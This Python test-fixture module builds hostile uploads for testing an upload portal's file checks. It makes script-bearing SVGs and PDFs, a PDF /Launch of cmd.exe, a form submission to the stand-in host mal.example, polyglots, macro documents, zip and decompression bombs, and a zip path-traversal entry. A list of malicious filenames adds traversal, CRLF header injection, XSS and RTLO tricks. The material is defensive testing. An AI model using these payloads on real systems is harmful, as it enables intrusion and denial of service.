"""Files that mean harm, made here."""

import io
import struct
import zlib
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from clauses_portal.core import files
from tests.core.made_files import PAGE, PDF, PROGRAM, TEXT, excel, image, members_of, open_document, pdf, word, zipped
from tests.support.clamd import EICAR

MEGABYTE = 1024 * 1024
SHEET = excel({"Feuille": [["Nom", "Heures"], ["Le Goff", 70]]})
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def action(kind, **more):
    """A PDF that does something when it is opened."""

    def change(document):
        document.Root.OpenAction = document.make_indirect(Dictionary(S=Name(kind), **more))

    return pdf(change)


def page_action(document):
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=Stream(document, b"app.alert(1)")))


def form(document):
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(document, b"<xdp/>"))


def carrying(name):
    def change(document):
        document.attachments[name] = PROGRAM

    return pdf(change)


def packed(content):
    """The same PDF, its objects compressed: nothing can be read in its bytes."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def encrypted():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as document:
        document.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


def object_bomb():
    """A PDF whose last object is in a compressed stream that weighs more than the memory of the probe."""
    block = _deflated_spaces(400)
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R /Extra 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        _stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", block),
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj " % number + part + b" endobj\n"
    rows = [(0, 0, 255), *((1, offset, 0) for offset in (*offsets, len(out))), (2, 4, 0)]
    table = b"".join(struct.pack(">BLB", *row) for row in rows)
    start = len(out)
    out += b"5 0 obj " + _stream(b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R", table) + b" endobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def _stream(entries, content):
    return b"<< " + entries + b" /Length %d >> stream\n" % len(content) + content + b"\nendstream"


def _deflated_spaces(megabytes):
    """« 6 0 » then so many megabytes of spaces and « 1 », compressed without ever being held."""
    squeezer = zlib.compressobj(9)
    parts = [squeezer.compress(b"6 0 ")]
    parts += [squeezer.compress(b" " * MEGABYTE) for _ in range(megabytes)]
    return b"".join([*parts, squeezer.compress(b"1"), squeezer.flush()])


def nested_pdf():
    return PDF.replace(b"/Type", b"/Deep " + b"[" * 60_000 + b"]" * 60_000 + b" /Type", 1)


def picture_of(width, height):
    """The header of a PNG that promises so many points, and almost none of them."""

    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    header = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
    return start + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def with_members(content, **members):
    return zipped(members_of(content) | members)


def lying_bomb():
    bomb = zipped({"a.txt": b"\0" * 0x1234567})
    return bomb.replace(struct.pack("<L", 0x1234567), struct.pack("<L", 10))


def locked_zip():
    return zipped({"CCAP.pdf": "secret"}).replace(b"PK\x01\x02\x14\x03\x14\0\0", b"PK\x01\x02\x14\x03\x14\0\1")


def nested_zips():
    content = b"x" * 1000
    for depth in range(6):
        content = zipped({f"{depth}.zip": content})
    return content


def bomb(count):
    return zipped({f"{number}.xml": b"\0" * 16 * MEGABYTE for number in range(count)})


@cache
def hostile():
    """{name that the browser says: bytes}."""
    script = {"JS": String("app.alert(1)")}
    return {
        "plan.svg": SVG,
        "plan.svg.png": SVG,
        "page.html": PAGE,
        "page.html.pdf": PAGE,
        "photo-page.png": PAGE,
        "table-page.csv": PAGE,
        "polyglotte-zip.pdf": PDF + zipped({"virus.exe": PROGRAM}),
        "polyglotte-js.pdf": b"/*" + PDF + b"*/alert(1)",
        "gifar.png": image("PNG") + zipped({"Virus.class": PROGRAM}),
        "jar.jpg": image("JPEG") + zipped({"META-INF/MANIFEST.MF": "Main-Class: Virus"}),
        "script.pdf": action("/JavaScript", **script),
        "script-masqué.pdf": action("/JavaScript", **script).replace(b"/JavaScript", b"/J#61v#61Script"),
        "script-compressé.pdf": packed(action("/JavaScript", **script)),
        "script-de-page.pdf": pdf(page_action),
        "lancement.pdf": action("/Launch", F=String("cmd.exe")),
        "envoi.pdf": action("/SubmitForm", F=String("https://mal.example/")),
        "formulaire-xfa.pdf": pdf(form),
        "pièce-jointe.pdf": carrying("facture.exe"),
        "pièce-jointe-double.pdf": carrying("facture.pdf.js"),
        "protégé.pdf": encrypted(),
        "bombe.pdf": object_bomb(),
        "profond.pdf": nested_pdf(),
        "tronqué.pdf": PDF[: len(PDF) // 3],
        "macros.docm": word(),
        "macros.docx": with_members(word(), **{"word/vbaProject.bin": PROGRAM}),
        "contrôles.docx": with_members(word(), **{"word/activeX/activeX1.bin": PROGRAM}),
        "macros.xlsm": SHEET,
        "macros.xlsx": with_members(SHEET, **{"xl/macrosheets/sheet1.xml": "macro"}),
        "macros.odt": open_document(TEXT, **{"Basic/Standard/Module1.xml": "macro"}),
        "protégé.docx": files.COMPOUND_FILE + b"\0" * 600 + files.ENCRYPTED_PACKAGE,
        "tronqué.xlsx": SHEET[:400],
        "ancien.doc": files.COMPOUND_FILE + b"\0" * 600,
        "eicar.com": EICAR,
        "eicar.pdf": EICAR,
        "raccourci.zip": zipped({"Facture.pdf.lnk": b"L\0\0\0\1\x14\2\0"}),
        "programme.zip": zipped({"CCAP.pdf.exe": PROGRAM}),
        "emboîté.zip": nested_zips(),
        "chemins.zip": zipped({"../../etc/cron.d/x": "x"}),
        "protégé.zip": locked_zip(),
        "bombe.zip": bomb(14),
        "bombe-menteuse.zip": lying_bomb(),
        "bombe.docx": bomb(5),
        "foule.zip": zipped({f"{number}.txt": "" for number in range(3000)}),
        "bombe.png": picture_of(50_000, 50_000),
        "tronqué.png": image("PNG")[:40],
        "vide.pdf": b"",
        "lourd.pdf": PDF.ljust(11 * MEGABYTE),
        "programme.exe": PROGRAM,
        "programme.pdf": PROGRAM,
        "programme.xlsx": PROGRAM,
        "facture.pdf.exe": PDF,
        "sans-extension": PDF,
    }


# Said by a hostile browser of a sound file: refused, or kept under a name that does no harm.
NAMES = [
    "../../../etc/passwd{}",
    "..\\..\\windows\\system32\\x{}",
    "/etc/cron.d/x{}",
    "C:\\Users\\x{}",
    "a\0.exe{}",
    "fdp\u202exe.{}",
    "a\r\nSet-Cookie: x=1{}",
    'a"; filename="b.exe{}',
    "a\u200b\ufeff{}",
    "x" * 5000 + "{}",
    "<img src=x onerror=alert(1)>{}",
    "CON{}",
    "a.exe{}",
    " .{}",
]
